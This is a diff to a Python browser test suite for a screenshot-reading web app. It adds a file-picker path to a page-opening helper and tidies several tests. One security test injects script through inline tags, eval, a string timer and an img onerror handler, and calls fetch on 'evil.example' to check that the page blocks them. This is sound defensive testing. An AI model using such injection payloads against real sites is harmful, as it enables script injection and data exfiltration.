@@ -68,11 +68,16 @@ def same_pattern(read: list[str], true: tuple[str, ...]) -> bool:
     return len(pairs) == len({a for a, _ in pairs}) == len({b for _, b in pairs})
 
 
-def opened(browser: Browser, studio: Running, picture: Path = FULL) -> None:
-    """The page with a screenshot dropped on it, read."""
+def opened(browser: Browser, studio: Running, picture: Path = FULL, *, picked: bool = False) -> None:
+    """The page with a screenshot dropped on it (or picked from a list of files), read."""
     browser.open(studio.address)
-    browser.until("return document.querySelector('#welcome h2')?.offsetParent !== null", what="the page")
-    browser.drop(picture, (400, 300))
+    browser.until(
+        "return document.querySelector('#welcome')?.offsetParent && document.body.classList.contains('empty')"
+    )
+    if picked:
+        browser.find("#file").send_keys(str(picture))
+    else:
+        browser.drop(picture, (400, 300))
     browser.until("return document.querySelectorAll('#reading [role=row]').length", what="the reading")
     browser.until("return document.querySelector('#busy').hidden", what="the end of the work")
 
@@ -225,7 +230,7 @@ def test_a_cell_is_put_right_and_kinds_are_merged_split_and_named(browser: Brows
     browser.click("#kind-split")
     browser.until("return document.querySelectorAll('#kinds .tile').length === args[0]", kinds)
     browser.type("#kind-name", "bamboo")
-    browser.until("return [...document.querySelectorAll('#kinds small')].some(e => e.textContent === 'bamboo')")
+    browser.until("return [...document.querySelectorAll('#kinds small')].some(e => e.textContent.endsWith('bamboo'))")
     for _ in range(4):
         browser.click("#undo")
         quiet(browser)
@@ -304,7 +309,7 @@ def test_it_is_light_by_day_and_dark_by_night_and_can_be_read(browser: Browser, 
 
 def test_fingers_pinch_and_drag_on_a_phone(browser: Browser, studio: Running) -> None:
     browser.screen(390, 844, phone=True)
-    opened(browser, studio)
+    opened(browser, studio, picked=True)
     assert browser.js("return document.documentElement.scrollWidth <= innerWidth")
     before, scale = grid(studio), browser.text("#zoom-level")
     corner = place(browser, studio, "ne")
@@ -469,8 +474,10 @@ def test_what_gets_into_the_page_can_neither_run_nor_send(tab: Browser, studio: 
     opened(tab, studio)
     ran = tab.js(
         """window.ran = [];
+        await new Promise(r => setTimeout(r, 1));
         const s = document.createElement('script');
         try { s.textContent = 'window.ran.push("inline")'; document.body.append(s); } catch {}
+        try { setTimeout('window.ran.push("timer")', 0); } catch {}
         try { (0, eval)('window.ran.push("eval")'); } catch {}
         try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran.push(1)">'); } catch {}
         try { await fetch('http://evil.example:9/'); window.ran.push('sent'); } catch {}
@@ -484,11 +491,7 @@ def test_what_gets_into_the_page_can_neither_run_nor_send(tab: Browser, studio: 
 def test_a_4k_screenshot_stays_fluid(browser: Browser, studio: Running, tmp_path: Path) -> None:
     large = cv2.resize(load(FULL), (3840, 2160), interpolation=cv2.INTER_CUBIC)
     save(tmp_path / "large.png", np.asarray(large, np.uint8))
-    browser.open(studio.address)
-    browser.until("return !document.querySelector('#welcome').hidden")
-    browser.drop(tmp_path / "large.png", (400, 300))
-    browser.until("return document.querySelectorAll('#reading [role=row]').length", what="the reading")
-    quiet(browser)
+    opened(browser, studio, tmp_path / "large.png")
     figures = {}
     for name, script in {"drag": DRAG, "pan": PAN, "zoom": ZOOM}.items():
         intervals = sorted(browser.js(FRAMES + script, place(browser, studio, "se")))
